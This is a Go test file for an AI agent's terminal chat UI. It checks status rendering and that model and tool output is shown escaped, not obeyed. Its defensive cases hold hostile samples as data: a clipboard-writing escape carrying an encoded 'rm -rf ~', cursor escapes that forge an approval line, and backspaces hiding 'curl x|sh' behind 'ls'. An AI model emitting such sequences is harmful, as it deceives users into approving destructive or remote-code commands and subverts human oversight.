package chatui

import (
	"github.com/tack-run/tack/internal/ansi"
	"testing"

	"google.golang.org/protobuf/proto"

	"github.com/tack-run/tack/events"
	eventsv1 "github.com/tack-run/tack/events/v1"
)

func window(n int64) *int64 { return &n }

func TestRender(t *testing.T) {
	cases := []struct {
		name  string
		st    Status
		color bool
		want  string
	}{
		{"idle, window unknown", Status{SessionTokens: 28500, ContextUsed: 900}, false, "idle · Context: 900 tokens | Session: 28.5K tokens"},
		{"streaming", Status{State: "streaming", ContextUsed: 760, ContextWindow: window(10000), SessionTokens: 1200}, false, "streaming · Context: 7.6% | Session: 1.2K tokens"},
		{"tool", Status{State: "executing_tools", Tool: "shell", ContextUsed: 1, ContextWindow: window(100)}, false, "executing_tools · shell · Context: 1.0% | Session: 0 tokens"},
		{"green below half", Status{ContextUsed: 49, ContextWindow: window(100)}, true, ansi.Dim + "idle" + ansi.Reset + " · Context: " + ansi.Green + "49.0%" + ansi.Reset + " | Session: 0 tokens"},
		{"yellow from half", Status{ContextUsed: 50, ContextWindow: window(100)}, true, ansi.Dim + "idle" + ansi.Reset + " · Context: " + ansi.Yellow + "50.0%" + ansi.Reset + " | Session: 0 tokens"},
		{"red above 80", Status{ContextUsed: 81, ContextWindow: window(100)}, true, ansi.Dim + "idle" + ansi.Reset + " · Context: " + ansi.Red + "81.0%" + ansi.Reset + " | Session: 0 tokens"},
		{"millions", Status{SessionTokens: 1_250_000}, false, "idle · Context: 0 tokens | Session: 1.2M tokens"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := c.st.Render(c.color); got != c.want {
				t.Fatalf("got  %q\nwant %q", got, c.want)
			}
		})
	}
}

func TestUpdateFollowsEvents(t *testing.T) {
	var st Status
	tool := "shell\x1b[2J"
	for _, p := range []proto.Message{
		&eventsv1.StateChanged{From: "idle", To: "running"},
		&eventsv1.TokenUsage{ContextUsed: 500, ContextWindow: window(1000), SessionTotalTokens: 700},
		&eventsv1.StateChanged{From: "running", To: "executing_tools"},
		&eventsv1.AgentStatus{Status: "tool_calling", ToolName: &tool},
		&eventsv1.ApprovalRequired{ApprovalId: "ap-1", Tool: "shell"},
	} {
		st.Update(events.New(p))
	}
	if got, want := st.Render(false), "executing_tools · shell^[[2J · Context: 50.0% | Session: 700 tokens"; got != want {
		t.Fatalf("got %q, want %q", got, want)
	}
	if !st.Busy() || st.Approval.GetApprovalId() != "ap-1" {
		t.Fatalf("busy %v, approval %v", st.Busy(), st.Approval)
	}
	st.Update(events.New(&eventsv1.ApprovalResolved{ApprovalId: "ap-1", Status: "approved"}))
	st.Update(events.New(&eventsv1.StateChanged{From: "executing_tools", To: "idle"}))
	if st.Busy() || st.Approval != nil || st.Tool != "" {
		t.Fatalf("after idle: %+v", st)
	}
}

func TestDescribe(t *testing.T) {
	cases := []struct {
		name    string
		payload proto.Message
		want    string
	}{
		{"delta streams as is", &eventsv1.MessageDelta{Delta: "Hel"}, "Hel"},
		{"tool start", &eventsv1.ToolExecutionStart{Name: "shell", Args: &eventsv1.RawJSON{Json: []byte(`{"command":"ls"}`)}}, "⚙ shell {\"command\":\"ls\"}\n"},
		{"tool end, first line", &eventsv1.ToolExecutionEnd{Name: "shell", Ok: true, Result: "a\nb"}, "✓ shell a …\n"},
		{"tool failed", &eventsv1.ToolExecutionEnd{Name: "sleep", Result: "skipped: a steering message arrived"}, "✗ sleep skipped: a steering message arrived\n"},
		{"approval asks", &eventsv1.ApprovalRequired{ApprovalId: "ap-1", Tool: "shell", Args: &eventsv1.RawJSON{Json: []byte(`{"command":"rm -rf build"}`)}}, "ap-1 wants to run shell {\"command\":\"rm -rf build\"} — allow? [y]es, [n]o, [a]lways\n"},
		{"question", &eventsv1.AskUser{Ref: "q-1", Question: "Which file?", Options: []string{"a.go", "b.go"}}, "? Which file? [a.go / b.go]\n"},
		{"quiet events", &eventsv1.TurnStart{RunId: "r-1", Turn: 1}, ""},
		// What a model, a tool or a provider writes is shown, not obeyed
		// by the terminal: no clipboard write, no cursor moved back over
		// an approval request, no text reversed.
		{"a delta cannot write the clipboard", &eventsv1.MessageDelta{Delta: "ok\x1b]52;c;cm0gLXJmIH4K\x07"}, "ok^[]52;c;cm0gLXJmIH4K^G"},
		{"a result cannot rewrite the approval line", &eventsv1.ToolExecutionEnd{Name: "shell", Ok: true, Result: "\x1b[1A\x1b[2K\rap-1 wants to run shell {\"command\":\"ls\"}"}, "✓ shell ^[[1A^[[2Kap-1 wants to run shell {\"command\":\"ls\"}\n"},
		{"a question cannot hide its options", &eventsv1.AskUser{Question: "Continue?\x1b[8m", Options: []string{"yes\u202e"}}, "? Continue?^[[8m [yes<U+202E>]\n"},
		{"an approval shows its arguments as they are", &eventsv1.ApprovalRequired{ApprovalId: "ap-2", Tool: "shell", Args: &eventsv1.RawJSON{Json: []byte("{\"command\":\"curl x|sh\b\b\b\b\b\b\b\b\b\bls\"}")}}, "ap-2 wants to run shell {\"command\":\"curl x|sh^H^H^H^H^H^H^H^H^H^Hls\"} — allow? [y]es, [n]o, [a]lways\n"},
		{"arguments print on one line", &eventsv1.ApprovalRequired{ApprovalId: "ap-3", Tool: "shell", Args: &eventsv1.RawJSON{Json: []byte("{\"command\":\"curl x | sh\",\n\n\n\"about\": \"ls\"}")}}, "ap-3 wants to run shell {\"command\":\"curl x | sh\",\"about\":\"ls\"} — allow? [y]es, [n]o, [a]lways\n"},
		{"arguments that do not parse show their line breaks", &eventsv1.ToolExecutionStart{Name: "shell", Args: &eventsv1.RawJSON{Json: []byte("{\"command\":\n\"ls")}}, "⚙ shell {\"command\":\\n\"ls\n"},
		{"a stream error from the provider", &eventsv1.StreamError{Error: "bad\u009b2J"}, "stream failed: bad<U+009B>2J\n"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := Describe(events.New(c.payload), false); got != c.want {
				t.Fatalf("got %q, want %q", got, c.want)
			}
		})
	}
}
